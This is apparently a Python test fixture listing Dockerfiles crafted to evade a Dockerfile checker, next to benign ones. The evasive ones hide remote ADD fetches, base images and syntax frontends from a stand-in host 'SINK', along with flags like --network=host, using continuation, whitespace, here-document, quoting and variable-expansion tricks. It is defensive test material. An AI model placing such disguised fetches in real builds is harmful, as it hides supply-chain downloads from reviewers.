"""Dockerfiles that two readers could read differently, and honest ones.

`SINK_URL` stands for an address where a test listens. What each builder of Docker 20.10 does was observed on a
real engine: `reached_by` names those that request something from it, `built_by` those that build the file. The later
BuildKits differ in here-documents, in arrays that are followed by something, and in `${NAME#…}` and its relatives.
"""

from __future__ import annotations

from dataclasses import dataclass

SINK_URL = "SINK"
BOTH = ("buildkit", "classic")
BUILDKIT = ("buildkit",)
CLASSIC = ("classic",)
NEITHER = ()


@dataclass(frozen=True)
class HostileDockerfile:
    name: str
    text: str | bytes
    rule: str
    """The refusal that must be among those given."""
    reached_by: tuple[str, ...]
    first_line: str = "FROM alpine\n"

    @property
    def data(self) -> bytes:
        text = self.text if isinstance(self.text, bytes) else self.text.encode()
        return self.first_line.encode() + text + b"\n"


@dataclass(frozen=True)
class HonestDockerfile:
    name: str
    text: str | bytes
    built_by: tuple[str, ...] = BOTH

    @property
    def data(self) -> bytes:
        return self.text if isinstance(self.text, bytes) else self.text.encode()


FETCH = f"ADD http://{SINK_URL}/x /x"

LINES = [
    # `\` continues a line before tabs and blanks only: lineContinuationRegex in parser.go.
    HostileDockerfile("no-break-space-after-backslash", f"RUN true \\\u00a0\n{FETCH}", "dockerfile-remote", BOTH),
    HostileDockerfile("em-space-after-backslash", f"RUN true \\\u2003\n{FETCH}", "dockerfile-continuation", BOTH),
    HostileDockerfile("next-line-after-backslash", f"RUN true \\\x85\n{FETCH}", "dockerfile-continuation", BOTH),
    HostileDockerfile(
        "ideographic-space-after-backslash", f"RUN true \\ \u3000 \n{FETCH}", "dockerfile-continuation", BOTH
    ),
    HostileDockerfile("vertical-tab-after-backslash", f"RUN true \\\v\n{FETCH}", "dockerfile-character", BOTH),
    HostileDockerfile("form-feed-after-backslash", f"RUN true \\\f\n{FETCH}", "dockerfile-character", BOTH),
    # 0.8 takes one carriage return off a line, later ones take all.
    HostileDockerfile("two-carriage-returns", f"RUN true \\\r\r\n{FETCH}", "dockerfile-character", BOTH),
    HostileDockerfile("carriage-return-in-the-line", f"RUN true \r{FETCH}", "dockerfile-character", NEITHER),
    # A `\` before the last one means that the line ends; Podman's reader goes on.
    HostileDockerfile("two-backslashes", f"RUN true \\\\\n{FETCH}", "dockerfile-continuation", BOTH),
    HostileDockerfile("two-backslashes-and-a-tab", f"RUN true \\\\\t\n{FETCH}", "dockerfile-remote", BOTH),
    # Lines are joined without a blank, whatever is at their ends.
    HostileDockerfile("word-over-two-lines", f"ADD h\\\nttp://{SINK_URL}/x /x", "dockerfile-remote", BOTH),
    HostileDockerfile("instruction-over-two-lines", f"AD\\\nD http://{SINK_URL}/x /x", "dockerfile-remote", BOTH),
    HostileDockerfile(
        "comment-and-empty-lines-between",
        f"ADD \\\n\n  # note \\\n\n http://{SINK_URL}/x /x",
        "dockerfile-remote",
        BOTH,
    ),
    HostileDockerfile("backslash-in-a-comment", f"# note \\\n{FETCH}", "dockerfile-remote", BOTH),
    HostileDockerfile("no-break-space-before", f"\u00a0{FETCH}", "dockerfile-remote", BOTH),
    HostileDockerfile("line-separator-before", f"# note\n\u2028{FETCH}", "dockerfile-remote", BOTH),
    HostileDockerfile("control-character", f"RUN true \x1b[2K\n{FETCH}", "dockerfile-character", BOTH),
    HostileDockerfile("nul", f"RUN true\x00\n{FETCH}", "dockerfile-character", BUILDKIT),
    # Go's scanner drops a byte order mark at the start of each word.
    HostileDockerfile(
        "byte-order-mark-before-an-address", f"ADD \ufeffhttp://{SINK_URL}/x /x", "dockerfile-character", BOTH
    ),
    HostileDockerfile("the-same-in-json", f'ADD ["\\ufeffhttp://{SINK_URL}/x", "/x"]', "dockerfile-remote", BOTH),
]

HERE_DOCUMENTS = [
    HostileDockerfile("shift", f"RUN true $((1<<A))\nFROM {SINK_URL}/shift", "image-registry", BOTH),
    HostileDockerfile("shift-with-blanks", f"RUN true $(( 1<<CMD ))\n{FETCH}\nCMD", "dockerfile-remote", BOTH),
    HostileDockerfile("end-is-an-instruction", f"RUN true <<CMD\n{FETCH}\nCMD", "dockerfile-remote", BOTH),
    HostileDockerfile("base-in-a-here-document", f"RUN true <<CMD\nFROM {SINK_URL}/here\nCMD", "image-registry", BOTH),
    HostileDockerfile(
        "flag-in-a-here-document", "RUN true <<CMD\nRUN --network=host true\nCMD", "dockerfile-flag", NEITHER
    ),
    HostileDockerfile("blank-before-the-word", f"RUN true << CMD\n{FETCH}\nCMD", "dockerfile-remote", BOTH),
    HostileDockerfile("two-words", f"RUN true << USER <<CMD\nCMD\n{FETCH}\nCMD", "dockerfile-remote", BOTH),
    HostileDockerfile("not-in-env", f"ENV A=<<CMD\n{FETCH}\nCMD", "dockerfile-remote", BOTH),
    HostileDockerfile("not-in-cmd", f"CMD true <<CMD\n{FETCH}\nCMD", "dockerfile-remote", BOTH),
    HostileDockerfile("behind-an-open-quote", f"RUN true # it's <<CMD\n{FETCH}\nCMD", "dockerfile-remote", BOTH),
    HostileDockerfile("in-quotes", f'RUN true "<<CMD"\n{FETCH}\nCMD', "dockerfile-remote", BOTH),
    HostileDockerfile("here-string", f"RUN true # <<<CMD\n{FETCH}\nCMD", "dockerfile-remote", BOTH),
    HostileDockerfile("in-an-array", f'RUN ["true", "<<CMD"]\n{FETCH}\nCMD', "dockerfile-remote", BOTH),
    HostileDockerfile("behind-an-array", f'RUN ["true"] <<CMD\n{FETCH}\nCMD', "dockerfile-heredoc", BOTH),
    HostileDockerfile("variable-as-its-end", f"RUN true <<$A\n{FETCH}\n$A", "dockerfile-heredoc", NEITHER),
    HostileDockerfile("backslash-in-its-end", f"RUN true <<E\\OF\n{FETCH}\nEOF", "dockerfile-heredoc", NEITHER),
    HostileDockerfile("blanks-in-its-end", f"RUN true <<'E F'\n{FETCH}\nE F", "dockerfile-heredoc", NEITHER),
    HostileDockerfile("end-in-part-quoted", f'RUN true <<E"OF"\n{FETCH}\nEOF', "dockerfile-heredoc", NEITHER),
    HostileDockerfile("end-that-is-a-comment", f"RUN true <<#\n{FETCH}\n#", "dockerfile-heredoc", BUILDKIT),
    HostileDockerfile("end-behind-blanks", f"RUN true <<CMD\n CMD\n{FETCH}\nCMD", "dockerfile-remote", BOTH),
    HostileDockerfile("end-behind-a-comment", f"RUN true # <<-CMD\n\tCMD\n{FETCH}", "dockerfile-remote", BOTH),
]

FLAGS = [
    HostileDockerfile("quotes-in-from", f'COPY --fr"om"={SINK_URL}/q /x /x', "dockerfile-from", BOTH),
    HostileDockerfile("backslash-in-from", f"COPY --fr\\om={SINK_URL}/q /x /x", "dockerfile-from", BOTH),
    HostileDockerfile("quoted-value", f"COPY --from='{SINK_URL}/q' /x /x", "dockerfile-from", BOTH),
    HostileDockerfile("whole-flag-quoted", f'COPY --"from={SINK_URL}/q" /x /x', "dockerfile-from", BOTH),
    HostileDockerfile("flag-on-the-next-line", f"COPY \\\n--from={SINK_URL}/q /x /x", "dockerfile-from", BOTH),
    # Flags are read byte by byte, and a lone byte 0xA0 is white space then.
    HostileDockerfile(
        "behind-a-lone-byte", f"COPY \xa0--from={SINK_URL}/q /x /x".encode("latin-1"), "dockerfile-from", BOTH
    ),
    HostileDockerfile("two-from", f"COPY --from=0 --from={SINK_URL}/q /x /x", "dockerfile-from", NEITHER),
    HostileDockerfile("quotes-in-network", 'RUN --net"work"=host true', "dockerfile-flag", NEITHER),
    HostileDockerfile("backslash-in-network", "RUN --network=ho\\st true", "dockerfile-flag", NEITHER),
    HostileDockerfile("quotes-in-security", "RUN --'security'=insecure true", "dockerfile-flag", NEITHER),
    HostileDockerfile("device", "RUN --device=vendor.com/kind=all true", "dockerfile-flag", NEITHER),
    HostileDockerfile(
        "mount-in-capitals", f"RUN --mount=type=bind,FROM={SINK_URL}/m,target=/m true", "dockerfile-from", BUILDKIT
    ),
    HostileDockerfile(
        "mount-in-csv-quotes",
        f"RUN --mount='type=bind,\"from={SINK_URL}/m\",target=/m' true",
        "dockerfile-flag",
        BUILDKIT,
    ),
    HostileDockerfile(
        "mount-twice-from", f"RUN --mount=from=x,from={SINK_URL}/m,target=/m true", "dockerfile-flag", BUILDKIT
    ),
    HostileDockerfile("mount-by-variable", "ARG T=secret\nRUN --mount=type=$T,id=k true", "dockerfile-flag", NEITHER),
    HostileDockerfile("mount-in-quotes", 'RUN --mo"unt"=type=ssh true', "dockerfile-flag", NEITHER),
    HostileDockerfile("checksum", "ADD --checksum=sha256:0 x /x", "dockerfile-flag", NEITHER),
    HostileDockerfile("keep-git-dir", "ADD --keep-git-dir=true x /x", "dockerfile-flag", NEITHER),
    HostileDockerfile("flag-of-an-instruction-without-flags", f"ARG --x A\n{FETCH}", "dockerfile-flag", BOTH),
]

SOURCES = [
    HostileDockerfile("double-quotes", f'ADD "http://{SINK_URL}/x" /x', "dockerfile-remote", BOTH),
    HostileDockerfile("single-quotes-within", f"ADD ht'tp'://{SINK_URL}/x /x", "dockerfile-remote", BOTH),
    HostileDockerfile("backslash", f"ADD h\\ttp://{SINK_URL}/x /x", "dockerfile-remote", BOTH),
    HostileDockerfile("json-escape", f'ADD ["\\u0068ttp:\\/\\/{SINK_URL}/x", "/x"]', "dockerfile-remote", BOTH),
    # Until 0.15 what follows an array is dropped.
    HostileDockerfile("array-and-more", f'ADD ["http://{SINK_URL}/x", "/x"] # page', "dockerfile-remote", BOTH),
    HostileDockerfile("behind-a-local-one", f"ADD app.py http://{SINK_URL}/x /x/", "dockerfile-remote", BOTH),
    HostileDockerfile("empty-variable-within", f"ADD ht${{NONE}}tp://{SINK_URL}/x /x", "dockerfile-remote", BOTH),
    HostileDockerfile("default-of-a-variable", f"ADD ${{NONE:-http://{SINK_URL}/x}} /x", "dockerfile-remote", BOTH),
    HostileDockerfile("alternative-of-a-variable", f"ADD ${{PATH:+http://{SINK_URL}/x}} /x", "dockerfile-remote", BOTH),
    HostileDockerfile("variables-joined", f"ENV A=ht B=tp://{SINK_URL}/x\nADD $A$B /x", "dockerfile-remote", BOTH),
    HostileDockerfile("old-way-of-env", f"ENV A tp://{SINK_URL}/x\nADD ht$A /x", "dockerfile-remote", BOTH),
    HostileDockerfile(
        "pairs-parted-by-a-no-break-space", f"ARG B=1\u00a0A=tp://{SINK_URL}/x\nADD ht$A /x", "dockerfile-remote", BOTH
    ),
    HostileDockerfile(
        "from-the-first-stage",
        f"ENV A=http://{SINK_URL}/x\nFROM one\nADD $A /x",
        "dockerfile-remote",
        BOTH,
        "FROM alpine AS one\n",
    ),
    HostileDockerfile(
        "arg-of-the-file", "FROM alpine\nARG A\nADD ht$A /x", "dockerfile-remote", BOTH, f"ARG A=tp://{SINK_URL}/x\n"
    ),
    HostileDockerfile("git-over-ssh", "ADD git@127.0.0.1:a/b.git /x", "dockerfile-remote", NEITHER),
    HostileDockerfile("git-by-another-user", "ADD someone@127.0.0.1:b /x", "dockerfile-remote", NEITHER),
    HostileDockerfile("git-by-ssh-address", "ADD ssh://git@127.0.0.1/b.git /x", "dockerfile-remote", NEITHER),
    HostileDockerfile("git-in-capitals", f"ADD HTTP://{SINK_URL}/b.git /x", "dockerfile-remote", NEITHER),
    HostileDockerfile("git-by-http", f"ADD http://{SINK_URL}/b.git#main:docs /x", "dockerfile-remote", BOTH),
    HostileDockerfile("git-without-protocol", "ADD github.com/a/b.git /x", "dockerfile-remote", NEITHER),
    HostileDockerfile("too-long", f"ENV A={'x' * 2000}\nENV B=$A$A$A", "dockerfile-word", NEITHER),
    HostileDockerfile("too-deep", f"ADD {'${A:-' * 2000}x{'}' * 2000} /x", "dockerfile-word", NEITHER),
]

BASES = [
    HostileDockerfile("quoted", f'FROM "{SINK_URL}/b"', "image-registry", BOTH, ""),
    HostileDockerfile("with-backslash", f"FROM {SINK_URL}\\/b", "image-registry", BOTH, ""),
    HostileDockerfile("default", f"FROM ${{B:-{SINK_URL}/b}}", "image-registry", BOTH, ""),
    HostileDockerfile("default-of-a-default", f"FROM ${{B:-${{C:-{SINK_URL}/b}}}}", "image-registry", BOTH, ""),
    HostileDockerfile("alternative", f"ARG B=1\nFROM ${{B:+{SINK_URL}/b}}", "image-registry", BOTH, ""),
    HostileDockerfile("arg-in-quotes", f"ARG B='{SINK_URL}/b'\nFROM $B", "image-registry", BOTH, ""),
    HostileDockerfile("arg-from-arg", f"ARG A={SINK_URL}\nARG B=${{A}}/b\nFROM $B", "image-registry", BOTH, ""),
    HostileDockerfile(
        "arg-behind-a-no-break-space", f"ARG A=1\u00a0B={SINK_URL}/b\nFROM $B", "image-registry", BOTH, ""
    ),
    # To BuildKit this is no `B`; the other builder takes the quotes off first.
    HostileDockerfile(
        "quoted-name-of-arg", f'ARG "B"={SINK_URL}/b\nFROM ${{B:-alpine}}', "dockerfile-variable", CLASSIC, ""
    ),
    # 0.8 and the other builder forget the value at the second ARG, later ones keep it.
    HostileDockerfile("arg-twice", f"ARG B=alpine\nARG B\nFROM ${{B:-{SINK_URL}/b}}", "dockerfile-variable", BOTH, ""),
    HostileDockerfile(
        "set-for-buildkit-only", f"FROM ${{TARGETARCH:+{SINK_URL}/b}}", "dockerfile-variable", BUILDKIT, ""
    ),
    HostileDockerfile(
        "unset-without-buildkit", f"FROM ${{BUILDPLATFORM:-{SINK_URL}/b}}", "dockerfile-variable", CLASSIC, ""
    ),
    HostileDockerfile("platform-within-the-server", f"FROM {SINK_URL}${{TARGETVARIANT}}/b", "image-registry", BOTH, ""),
    # Later BuildKits cut.
    HostileDockerfile("cut-at-the-front", f"ARG B=v{SINK_URL}/b\nFROM ${{B#v}}", "image-registry", NEITHER, ""),
    HostileDockerfile("cut-at-the-end", f"ARG B={SINK_URL}/b-x-y\nFROM ${{B%%-*}}", "image-registry", NEITHER, ""),
    HostileDockerfile("replaced", f"ARG B={SINK_URL}/b\nFROM ${{B/a/b}}", "dockerfile-variable", NEITHER, ""),
    HostileDockerfile("with-a-platform", f"FROM --platform=linux/amd64 {SINK_URL}/b", "image-registry", BOTH, ""),
    HostileDockerfile(
        "doubles-itself", "ARG A=xxxxxxxxxx\n" + "ARG A=$A$A$A$A\n" * 6 + "FROM $A", "dockerfile-word", NEITHER, ""
    ),
    HostileDockerfile(
        "name-of-a-stage-that-is-an-image",
        f"FROM {SINK_URL}/b",
        "image-registry",
        NEITHER,
        f"FROM alpine AS {SINK_URL}/b\n",
    ),
    HostileDockerfile("trigger-in-lower-case", f"onbuild {FETCH}", "dockerfile-instruction", NEITHER),
    HostileDockerfile("trigger-over-two-lines", f"ONBU\\\nILD {FETCH}", "dockerfile-instruction", NEITHER),
]

DIRECTIVES = [
    HostileDockerfile(
        "syntax-behind-a-byte-order-mark", "FROM alpine", "dockerfile-syntax", NEITHER, f"\ufeff# syntax={SINK_URL}/s\n"
    ),
    HostileDockerfile(
        "syntax-in-capitals", "FROM alpine", "dockerfile-syntax", BUILDKIT, f"#SYNTAX\t=\t{SINK_URL}/s\n"
    ),
    HostileDockerfile(
        "syntax-behind-blanks", "FROM alpine", "dockerfile-syntax", BUILDKIT, f"#  syntax = {SINK_URL}/s and more\n"
    ),
    HostileDockerfile(
        "syntax-behind-a-shebang",
        "FROM alpine",
        "dockerfile-syntax",
        NEITHER,
        f"#!/usr/bin/docker\n# syntax={SINK_URL}/s\n",
    ),
    HostileDockerfile("syntax-in-json", "", "dockerfile-syntax", NEITHER, f'{{"syntax": "{SINK_URL}/s"}}'),
    HostileDockerfile(
        "syntax-behind-another", "FROM alpine", "dockerfile-syntax", BUILDKIT, f"# escape=\\\n# syntax={SINK_URL}/s\n"
    ),
    HostileDockerfile(
        "syntax-with-a-server-as-its-tag",
        "FROM alpine",
        "dockerfile-syntax",
        NEITHER,
        "# syntax=docker/dockerfile:5000/x\n",
    ),
    HostileDockerfile(
        "escape-in-capitals", f"RUN true `\n{FETCH}", "dockerfile-escape", NEITHER, "# ESCAPE = `\nFROM alpine\n"
    ),
]

LABELS = [
    HostileDockerfile("label-joined", 'LABEL a=1 "com.dock"er.compose.project=x', "label-reserved", NEITHER),
    HostileDockerfile(
        "label-with-byte-order-mark", "LABEL \ufeffcom.docker.compose.project=x", "dockerfile-character", NEITHER
    ),
    HostileDockerfile("label-behind-a-no-break-space", "LABEL a=1\u00a0com.docker\\.x=y", "label-reserved", NEITHER),
    HostileDockerfile("label-in-the-old-way", "LABEL com.'docker'.compose.project todos", "label-reserved", NEITHER),
    HostileDockerfile("label-over-two-lines", "LABEL com.doc\\\nker.compose.project=x", "label-reserved", NEITHER),
]

HOSTILE = [*LINES, *HERE_DOCUMENTS, *FLAGS, *SOURCES, *BASES, *DIRECTIVES, *LABELS]

HONEST = [
    HonestDockerfile("byte-order-mark", "\ufeffFROM alpine\nRUN true\n"),
    HonestDockerfile("windows-lines", 'FROM alpine\r\nRUN true \\\r\n  && true\r\nCMD ["sh"]\r\n'),
    HonestDockerfile("tabs", "FROM\talpine\n\tRUN\ttrue\t\\\n\t\t&& true\n"),
    HonestDockerfile("blanks-after-backslash", "FROM alpine\nRUN true \\  \t\n  && true\n"),
    HonestDockerfile("no-end-of-line", "FROM alpine\nRUN true"),
    HonestDockerfile("carriage-return-at-the-end", "FROM alpine\nRUN true\r"),
    HonestDockerfile(
        "no-break-space-in-comments",
        "# Mon\u00a0image\u00a0: «\u00a0web\u00a0»\nFROM alpine\nRUN true \\\n  # été\u00a0: \\\u00a0\n  && true\n",
    ),
    HonestDockerfile(
        "no-break-space-in-text", "FROM alpine\nRUN echo 'Bonjour\u00a0!' > /x\nENV TITRE=\"Prêt\u00a0?\"\n"
    ),
    HonestDockerfile("latin-1", "FROM alpine\n# déjà\xa0vu\nRUN echo 'été à' > /x\n".encode("latin-1")),
    HonestDockerfile("comments-and-empty-lines-between", "FROM alpine\nRUN true \\\n# un\n\n  # deux\n  && true\n"),
    HonestDockerfile("backslash-at-the-end-of-a-comment", "FROM alpine\n# C:\\dossier\\\\\nRUN true\n"),
    HonestDockerfile("last-line-continued", "FROM alpine\nRUN true \\\n"),
    HonestDockerfile("lower-case", "from alpine as base\nrun true\nfrom base\ncopy --from=base /etc/hostname /x\n"),
    HonestDockerfile("escape-as-usual", "# escape=\\\nFROM alpine\nRUN true \\\n && true\n"),
    HonestDockerfile("check", "# check=skip=all\n# note\nFROM alpine\n"),
    HonestDockerfile("shift", "FROM alpine\nRUN echo $((1<<3)) > /x\n"),
    HonestDockerfile("shift-with-blanks", "FROM alpine\nRUN echo $(( 1 << 3 )) > /x\n"),
    HonestDockerfile("backslashes-in-quotes", "FROM alpine\nRUN printf 'a\\\\n%s\\n' \"$HOME\" > /x\n"),
    HonestDockerfile("open-quote-in-a-comment", "FROM alpine\nRUN true # c'est fini\n"),
    HonestDockerfile("quotes-in-env", "FROM alpine\nENV A=\"un deux\" B=un\\ deux C='x'\nENV D tout le reste\n"),
    HonestDockerfile(
        "label", 'FROM alpine\nLABEL maintainer="Élève <e@example.org>" version=\'1\'\nLABEL note une "note"\n'
    ),
    HonestDockerfile(
        "quotes-in-flags", "FROM alpine AS base\nFROM alpine\nCOPY --from=\"base\" --chown='0:0' /etc/hostname /x\n"
    ),
    HonestDockerfile("array", 'FROM alpine\nCOPY ["mon fichier.txt", "app.py", "/x/"]\n'),
    HonestDockerfile("array-and-a-comment", 'FROM alpine\nCMD ["sh"] # lance\n'),
    HonestDockerfile("quoted-source", "FROM alpine\nCOPY \"app.py\" 'site.tar' /x/\n"),
    HonestDockerfile("version-in-a-source", "FROM alpine\nARG VERSION=1\nADD site-$VERSION.tar /x/\n"),
    HonestDockerfile(
        "variable-behind-a-folder", "FROM alpine\nADD ./${DOSSIER}app.py /x/\nCOPY ${DOSSIER}app.py /y/\n"
    ),
    HonestDockerfile("arg-with-a-default", "ARG V=3\nFROM alpine:${TAG:-latest}\nARG V\nRUN echo $V > /x\n"),
    HonestDockerfile("quoted-arg", 'ARG BASE="alpine"\nFROM ${BASE} AS base\nFROM base\n'),
    HonestDockerfile("alternative", "ARG LAST=oui\nFROM alpine${LAST:+:latest}\n"),
    HonestDockerfile("cut", "ARG V=vlatest\nFROM alpine:${V#v}\n", NEITHER),  # a later BuildKit
    HonestDockerfile("platform-of-the-builder", "FROM --platform=$BUILDPLATFORM alpine\nRUN true\n", BUILDKIT),
    HonestDockerfile(
        "stage-by-platform", "FROM alpine AS base-amd64\nFROM alpine AS base-arm64\nFROM base-${TARGETARCH}\n", BUILDKIT
    ),
    HonestDockerfile(
        "cache", 'FROM alpine\nRUN --mount=type=cache,target="/root/.cache" --network=none true\n', NEITHER
    ),
    HonestDockerfile("scratch", "FROM scratch\nCOPY app.py /\n"),
    HonestDockerfile(
        "end-of-flags", 'FROM alpine\nHEALTHCHECK --interval=5s CMD true --fail\nENTRYPOINT ["sh", "--help"]\n'
    ),
    # BuildKit from 0.10, and the `docker/dockerfile:1.4` of before.
    HonestDockerfile("here-document", "FROM alpine\nRUN <<EOF\ntrue\nEOF\n", NEITHER),
    HonestDockerfile(
        "here-document-behind-a-blank", "FROM alpine\nRUN cat << EOF > /x\nserver { listen 80; }\nEOF\n", NEITHER
    ),
    HonestDockerfile(
        "python-in-a-here-document",
        "FROM python:alpine\nRUN python3 <<'PY'\nfrom http import client\nfrom os import path as p\nPY\n",
        NEITHER,
    ),
    HonestDockerfile(
        "page-in-a-here-document",
        'FROM nginx\nCOPY <<-"FIN" /usr/share/nginx/html/index.html\n\t<p>https://example.org \\\\\n\tFIN\n',
        NEITHER,
    ),
    HonestDockerfile("two-here-documents", "FROM alpine\nCOPY <<A <<B /x/\na\nA\nb\nB\n", NEITHER),
    HonestDockerfile(
        "here-document-and-a-variable",
        'FROM alpine\nRUN cat <<EOF > ${DIR:-/tmp}/x && echo "${A:-un deux}"\nx\nEOF\n',
        NEITHER,
    ),
    HonestDockerfile("known-syntax", "# syntax=docker/dockerfile:1.7\nFROM alpine\n", NEITHER),
]
